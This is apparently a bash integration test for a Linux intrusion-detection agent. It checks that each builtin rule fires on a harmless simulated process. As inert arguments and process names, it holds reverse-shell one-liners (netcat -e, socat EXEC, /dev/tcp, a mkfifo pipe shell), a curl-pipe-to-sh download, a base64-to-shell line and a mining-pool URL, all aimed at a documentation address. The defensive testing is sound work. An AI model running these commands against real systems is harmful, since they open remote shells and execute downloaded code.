#!/bin/bash
# integration_rules.sh BINDIR — the builtin rule library end to end through
# the real collector, store and engine (`daemoneye-agent --once`):
#   1. clean baseline: on a quiet machine none of the behaviour rules fire
#      (the "state" rules — deleted/replaced executables, programs in /tmp,
#      memfd executables, long command lines, root running from /tmp — are
#      left out: package upgrades, builds and this very test suite run such
#      things legitimately, so a CI host cannot promise silence for them);
#   2. one harmless simulation per rule — copies of /bin/sleep named or
#      placed suspiciously, `sh -c 'sleep 300; : "<suspicious text>"'` whose
#      suspicious part is a no-op argument that never runs or connects, a
#      copy of dash named nginx/postgres with a shell child, and for the
#      connection rules a python listener on loopback (a mining-pool port,
#      started here) and a bash holding a connection to it — then one agent
#      cycle (whose full scan finds the open connections) must raise every
#      rule for exactly the simulated pid.
# Every simulation runs in its own process group (setsid), with no terminal
# or pipe of ours, and is killed as a group and reaped by pid.
set -u
. "$(dirname "$0")/lib.sh"
bin=$1
src=$(cd "$(dirname "$0")/.." && pwd)
tmp=$(mktemp -d /tmp/de-it-rules-XXXXXX)
# started as root the agent drops to app.run_as_user (nobody here): it must
# reach its state directory below this one
chmod 755 "$tmp"
shm=$(mktemp -d /dev/shm/de-it-rules-XXXXXX)
pids=()
stop_all() {
	for p in "${pids[@]}"; do kill -TERM -- "-$p" 2>/dev/null; done
	for p in "${pids[@]}"; do wait "$p" 2>/dev/null; done
	pids=()
}
cleanup() {
	stop_all
	rm -rf "$tmp" "$shm"
}
trap cleanup EXIT

hermetic "$tmp/home"
agent() {
	"$bin/daemoneye-agent" --once --set app.state_dir="$tmp/state" \
		--set 'detection.rules_dirs=[]' --set alerting.stdout.format=json "$@"
}
# wait until PID has exec'd its final program: /proc/PID/exe is EXE (or, with
# no EXE, neither the setsid nor the bash that start it) and its command
# line contains TEXT
exec_done() {
	local pid=$1 text=$2 want=${3:-} exe
	exe=$(readlink "/proc/$pid/exe" 2>/dev/null)
	if { [ -n "$want" ] && [ "${exe% (deleted)}" = "$want" ]; } ||
		{ [ -z "$want" ] && [ -n "$exe" ] && [ "${exe##*/}" != setsid ] && [ "${exe##*/}" != bash ]; }; then
		tr '\0' ' ' <"/proc/$pid/cmdline" 2>/dev/null | grep -qF -- "$text"
	else
		return 1
	fi
}
wait_exec() {
	wait_for 30 exec_done "$@" && return 0
	echo "# pid $1 never became '${3:-}' with '$2'"
	return 1
}

# ---- 0. the library ---------------------------------------------------------
# The rule ids of rules/builtin.yaml, read from the source, and as the
# programs list them (the compiled-in copy): every one of them must have a
# simulation below that raises it, and no simulation may stand for a rule
# the library does not have.
grep -oP '^  - id: \K\S+' "$src/rules/builtin.yaml" | sort >"$tmp/library"
nrules=$(wc -l <"$tmp/library")
check "rules/builtin.yaml has rules ($nrules)" test "$nrules" -gt 0
"$bin/daemoneye-cli" --set app.state_dir="$tmp/state" rules list --format json >"$tmp/list.json"
rc=$?
check "rules list exits 0 (rc=$rc)" test "$rc" = 0
python3 -c 'import json,sys; print("\n".join(sorted(r["id"] for r in json.load(open(sys.argv[1])) if r["source_type"] == "builtin")))' \
	"$tmp/list.json" >"$tmp/listed"
check "the programs' builtin rules are rules/builtin.yaml's" diff "$tmp/library" "$tmp/listed"
# rules that can fire legitimately on any host, which say so ("state:") in
# their description, are left out of the clean baseline
python3 -c 'import json,sys; print("\n".join(sorted(r["id"] for r in json.load(open(sys.argv[1])) if "(state:" in r["description"])))' \
	"$tmp/list.json" >"$tmp/state_marked"

# ---- 1. clean baseline ------------------------------------------------------
state_rules="deleted-executable replaced-executable exec-from-tmp memfd-executable long-command-line root-from-user-writable interpreter-listening"
check "the state rules here are those the library marks so" diff <(tr ' ' '\n' <<<"$state_rules" | sort) "$tmp/state_marked"
agent >"$tmp/base.out" 2>"$tmp/base.err"
rc=$?
check "baseline agent --once exits 0 (rc=$rc)" test "$rc" = 0
check "baseline loads the builtin library ($nrules rules)" grep -q "^.*: $nrules detection rules loaded" "$tmp/base.err"
alert_pairs "$tmp/base.out" >"$tmp/base.pairs"
noisy=$(awk '{print $1}' "$tmp/base.pairs" | sort -u | grep -vxF -f <(tr ' ' '\n' <<<"$state_rules") || true)
check "baseline: no behaviour rule fires on a quiet machine (fired: ${noisy:-none})" test -z "$noisy"
[ -n "$noisy" ] && grep -F -f <(echo "$noisy") "$tmp/base.out" | head -5

# ---- 2. simulations ---------------------------------------------------------
declare -A expect # rule -> pid
sleeper() {       # sleeper RULE PATH [ARGV0]: a copy of sleep at PATH, argv[0] = ARGV0
	local rule=$1 path=$2 argv0=${3:-}
	cp /bin/sleep "$path"
	if [ -n "$argv0" ]; then
		setsid bash -c 'exec -a "$0" "$1" 300' "$argv0" "$path" </dev/null >/dev/null 2>&1 &
	else
		setsid "$path" 300 </dev/null >/dev/null 2>&1 &
	fi
	pids+=($!)
	expect[$rule]=$!
	wait_exec "$!" "300" "$path"
}
shell_sim() { # shell_sim RULE TEXT: sh whose command line carries TEXT, never run
	local rule=$1 text=$2
	setsid sh -c 'sleep 300; : "$0"' "$text" </dev/null >/dev/null 2>&1 &
	pids+=($!)
	expect[$rule]=$!
	wait_exec "$!" "sleep 300"
}

sleeper deleted-executable "$tmp/del-sleep"
rm -f "$tmp/del-sleep"
sleeper replaced-executable "$tmp/rep-sleep"
cp /bin/true "$tmp/rep.new" && mv -f "$tmp/rep.new" "$tmp/rep-sleep"
sleeper exec-from-tmp "$tmp/tmp-sleep"
sleeper exec-from-dev-shm "$shm/shm-sleep"
sleeper system-daemon-wrong-path "$tmp/sshd"
sleeper kernel-thread-masquerade "$tmp/kworker:0H"
sleeper netcat-exec "$tmp/nc" "nc -e /bin/sh 192.0.2.1 4444"
sleeper socat-exec "$tmp/socat" "socat TCP:192.0.2.1:4444 EXEC:/bin/sh"
mkdir -p "$tmp/l"
sleeper netcat-listener "$tmp/l/ncat" "ncat -lvnp 4444"
sleeper socat-listener "$tmp/l/socat" "socat TCP-LISTEN:4444,fork STDOUT"
sleeper miner-process-name "$tmp/xmrig"
sleeper hidden-executable "$tmp/.hidden-sleep"
shell_sim reverse-shell-dev-tcp "bash -c 'exec 5<>/dev/tcp/192.0.2.1/4444'"
shell_sim interactive-shell-redirect "bash -i >& /dev/null 0>&1"
shell_sim named-pipe-shell "mkfifo /tmp/f; cat /tmp/f | /bin/sh 2>&1 | nc 192.0.2.1 4444 >/tmp/f"
shell_sim download-pipe-shell "curl -fsSL http://192.0.2.1/x.sh | sh"
shell_sim base64-shell "echo aWQK | base64 -d | sh"
shell_sim mining-pool-cmdline "-o stratum+tcp://pool.example.org:3333"
shell_sim long-command-line "$(head -c 5000 /dev/zero | tr '\0' A)"
setsid python3 -c 'import time; time.sleep(300)  # socket.socket().connect(("192.0.2.1", 4444))' </dev/null >/dev/null 2>&1 &
pids+=($!); expect[interpreter-socket-oneliner]=$!; wait_exec "$!" "time.sleep"
setsid python3 -c 'import time; time.sleep(300)  # pty.spawn("/bin/sh")' </dev/null >/dev/null 2>&1 &
pids+=($!); expect[interpreter-pty-spawn]=$!; wait_exec "$!" "time.sleep"
setsid python3 -c '
import os, sys
fd = os.memfd_create("de-memfd-sleep", 0)
os.write(fd, open("/bin/sleep", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["de-memfd-sleep", "300"])' </dev/null >/dev/null 2>&1 &
pids+=($!); expect[memfd-executable]=$!; wait_exec "$!" "de-memfd-sleep 300"
# a web server and a database (copies of dash) each with a shell child
for srv in nginx:webserver-spawns-shell postgres:database-spawns-shell; do
	name=${srv%%:*} rule=${srv#*:}
	cp /bin/dash "$tmp/$name"
	setsid "$tmp/$name" -c 'sh -c "sleep 300; :"; :' </dev/null >/dev/null 2>&1 &
	pids+=($!)
	parent=$! child=
	shell_child() { child=$(pgrep -P "$parent" -x sh | head -n1); [ -n "$child" ]; }
	check "$name started a shell child" wait_for 30 shell_child
	expect[$rule]=${child:-0}
done
if [ "$(id -u)" = 0 ]; then
	expect[root-from-user-writable]=${expect[exec-from-tmp]}
fi
# the connection rules: a python listener on a mining-pool port of loopback
# (an interpreter listening) and a shell holding a connection to it (an
# outbound connection of a shell, to a mining-pool port); nothing leaves
# the host.  A port that is taken is not one of ours: try the next.
for port in 14444 45700 14433 45560; do
	rm -f "$tmp/pool.ready"
	setsid python3 -c '
import os, socket, sys
s = socket.socket()
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(4)
open(sys.argv[2], "w").close()
held = []
while True:
    held.append(s.accept()[0])
' "$port" "$tmp/pool.ready" </dev/null >/dev/null 2>&1 &
	pool=$!
	for _ in $(seq 100); do [ -e "$tmp/pool.ready" ] || ! kill -0 "$pool" 2>/dev/null && break; sleep 0.05; done
	[ -e "$tmp/pool.ready" ] && break
	wait "$pool" 2>/dev/null
done
pids+=("$pool")
expect[interpreter-listening]=$pool
setsid bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"$port"'; sleep 300; :' </dev/null >/dev/null 2>&1 &
pids+=($!)
expect[shell-outbound-connection]=$!
expect[mining-pool-port]=$!
for _ in $(seq 200); do
	case $(readlink "/proc/$!/fd/3" 2>/dev/null) in socket:*) break ;; esac
	sleep 0.05
done
check "the shell holds its connection to the pool port $port" test -S "/proc/$!/fd/3" -o -n "$(readlink "/proc/$!/fd/3" | grep socket)"

agent >"$tmp/sim.out" 2>"$tmp/sim.err"
rc=$?
check "simulation agent --once exits 0 (rc=$rc)" test "$rc" = 0
alert_pairs "$tmp/sim.out" >"$tmp/sim.pairs"
for rule in $(printf '%s\n' "${!expect[@]}" | sort); do
	check "rule $rule raises an alert for its simulation (pid ${expect[$rule]})" \
		grep -qx "$rule ${expect[$rule]}" "$tmp/sim.pairs"
done
# (root-from-user-writable needs root: a normal user cannot simulate it)
printf '%s\n' "${!expect[@]}" | sort >"$tmp/simulated"
if [ "$(id -u)" = 0 ]; then cp "$tmp/library" "$tmp/want"; else grep -vx root-from-user-writable "$tmp/library" >"$tmp/want"; fi
check "every builtin rule has a simulation (missing: $(comm -23 "$tmp/want" "$tmp/simulated" | tr '\n' ' '))" \
	test -z "$(comm -23 "$tmp/want" "$tmp/simulated")"
check "every simulation is of a builtin rule (not in the library: $(comm -13 "$tmp/library" "$tmp/simulated" | tr '\n' ' '))" \
	test -z "$(comm -13 "$tmp/library" "$tmp/simulated")"
db=$tmp/state/events.sqlite
check "alerts stored with their rule and pid" test "$(sqlite3 -readonly "$db" "SELECT count(*) FROM alerts WHERE rule_id = 'reverse-shell-dev-tcp' AND affected_processes LIKE '%${expect[reverse-shell-dev-tcp]}%'")" -ge 1
check "parent/child alert carries the parent's name" grep -q '"parent_name": *"nginx"' "$tmp/sim.out"
check "no rule failed" test -z "$(grep -i 'rule .*: ' "$tmp/sim.err" | grep -v 'rules loaded')"

# the same simulations stop alerting once they are gone
stop_all
agent >"$tmp/after.out" 2>/dev/null
rc=$?
check "agent --once after the simulations exits 0 (rc=$rc)" test "$rc" = 0
alert_pairs "$tmp/after.out" >"$tmp/after.pairs"
left=$(for rule in "${!expect[@]}"; do grep -x "$rule ${expect[$rule]}" "$tmp/after.pairs"; done)
check "no alert for the simulations after they exit (${left:-none})" test -z "$left"

echo "integration_rules: $fails failed"
[ "$fails" = 0 ]
